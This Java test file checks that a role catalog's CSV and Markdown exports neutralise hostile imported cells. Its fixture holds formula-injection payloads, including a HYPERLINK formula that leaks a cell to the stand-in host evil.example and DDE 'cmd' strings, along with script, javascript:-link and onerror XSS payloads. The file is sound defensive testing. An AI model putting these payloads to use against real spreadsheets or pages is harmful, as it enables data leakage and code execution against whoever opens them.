package org.roleatlas;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.get;
import static org.springframework.test.web.servlet.result.MockMvcResultMatchers.status;

import java.io.IOException;
import java.io.InputStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.commonmark.parser.Parser;
import org.commonmark.renderer.html.HtmlRenderer;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Document;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.roleatlas.exchange.CatalogImporter;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.test.context.ActiveProfiles;
import org.springframework.test.web.servlet.MockMvc;

/**
 * A role imported with cells that a spreadsheet would run as formulas, or a Markdown renderer would turn into HTML
 * and links, is exported as inert text: on the web ({@code .csv}, {@code .md}) and on the command line
 * ({@code compare --format csv|markdown}).
 */
@SpringBootTest(properties = "roleatlas.test.db-name=export_injection") // an in-memory H2 database of its own
@AutoConfigureMockMvc
@ActiveProfiles("h2")
class ExportInjectionTest {

    /** The cells a hostile importer puts in, by dimension of the default framework. */
    static final Map<String, String> HOSTILE = new LinkedHashMap<>();

    static {
        HOSTILE.put("primary-role", "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")");
        HOSTILE.put("reporting-relationship", "\t=1+1");
        HOSTILE.put("scope-of-responsibilities", "-2+3+cmd|' /C calc'!A0");
        HOSTILE.put("decision-making-authority", "@SUM(1+1)*cmd|' /C calc'!A0");
        HOSTILE.put("strategic-planning", "+1+1 and <script>alert('md')</script>");
        HOSTILE.put("team-management", "[Click me](javascript:alert(1)) and <javascript:alert(2)>");
        HOSTILE.put("meeting-involvement", "<img src=x onerror=alert(3)><a href=\"javascript:alert(4)\">x</a>");
    }

    @TempDir
    static Path files;
    static Path hostileRole;

    @Autowired
    MockMvc mvc;
    @Autowired
    CatalogImporter importer;

    /** The shipped CTO's file with another slug and title, and the hostile cells in place of some of its values. */
    @BeforeAll
    static void writeHostileRole() throws IOException {
        String cto;
        try (InputStream in = ExportInjectionTest.class.getResourceAsStream("/catalog/roles/cto.yaml")) {
            cto = new String(in.readAllBytes(), StandardCharsets.UTF_8);
        }
        List<String> lines = new ArrayList<>();
        for (String line : cto.lines().toList()) {
            String key = line.strip().split(":", 2)[0];
            if (line.startsWith("variants:")) {
                break; // the CTO's company-size variants come last; the hostile role has none
            }
            if (line.startsWith("slug:")) {
                lines.add("slug: hostile-role");
            } else if (line.startsWith("title:")) {
                lines.add("title: \"Hostile Role\"");
            } else if (line.startsWith("abbreviation:") || line.startsWith("nextRoles:")) {
                continue;
            } else if (line.startsWith("  - ")) {
                continue; // the CTO's aliases
            } else if (line.startsWith("aliases:")) {
                continue;
            } else if (line.startsWith("  ") && HOSTILE.containsKey(key)) {
                lines.add("  " + key + ": " + yamlString(HOSTILE.get(key)));
            } else {
                lines.add(line);
            }
        }
        hostileRole = files.resolve("hostile-role.yaml");
        Files.writeString(hostileRole, String.join("\n", lines) + "\n", StandardCharsets.UTF_8);
    }

    private static String yamlString(String text) {
        return "\"" + text.replace("\\", "\\\\").replace("\"", "\\\"").replace("\t", "\\t") + "\"";
    }

    @Test
    void theWebCsvAndMarkdownExportsAreInert() throws Exception {
        importer.importFiles(List.of(hostileRole));

        byte[] csv = mvc.perform(get("/compare/cto-vs-hostile-role.csv")).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsByteArray();
        assertInertCsv(new String(csv, StandardCharsets.UTF_8));

        String markdown = mvc.perform(get("/compare/cto-vs-hostile-role.md")).andExpect(status().isOk())
                .andReturn().getResponse().getContentAsString(StandardCharsets.UTF_8);
        assertInertMarkdown(markdown);
    }

    @Test
    void theCommandLineCsvAndMarkdownExportsAreInert(@TempDir Path data) throws Exception {
        CommandLineRun imported = CommandLineRun.launch(data, "import", hostileRole.toString());
        assertThat(imported.status()).as(imported.toString()).isZero();

        CommandLineRun csv = CommandLineRun.launch(data, "compare", "cto", "hostile-role", "--format", "csv");
        assertThat(csv.status()).as(csv.toString()).isZero();
        assertInertCsv(csv.out());

        CommandLineRun markdown = CommandLineRun.launch(data, "compare", "cto", "hostile-role", "--format", "markdown");
        assertThat(markdown.status()).as(markdown.toString()).isZero();
        assertInertMarkdown(markdown.out());
    }

    /** Every cell a spreadsheet reads starts with a character that cannot begin a formula. */
    private static void assertInertCsv(String csv) throws IOException {
        List<String> cells = new ArrayList<>();
        try (CSVParser parser = CSVParser.parse(csv, CSVFormat.RFC4180)) {
            for (CSVRecord record : parser) {
                cells.addAll(record.toList());
            }
        }
        assertThat(cells).contains("'=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click me\")",
                "'-2+3+cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0", "'+1+1 and <script>alert('md')</script>");
        assertThat(cells).anySatisfy(cell -> assertThat(cell).matches("'\t?=1\\+1"));
        assertThat(cells).allSatisfy(cell -> assertThat(cell).doesNotStartWith("=").doesNotStartWith("+")
                .doesNotStartWith("-").doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r"));
    }

    /**
     * Rendered by a CommonMark renderer that lets raw HTML through (as many do), the export shows the cells as
     * text: no element, attribute or link of theirs comes alive.
     */
    private static void assertInertMarkdown(String markdown) {
        String html = HtmlRenderer.builder().build().render(Parser.builder().build().parse(markdown));
        Document page = Jsoup.parseBodyFragment(html);
        assertThat(page.select("script, img, a, [onerror]")).as(html).isEmpty();
        assertThat(html).doesNotContain("href=\"javascript:");
        assertThat(page.text()).contains("<script>alert('md')</script>", "[Click me](javascript:alert(1))",
                "<img src=x onerror=alert(3)>");
    }
}
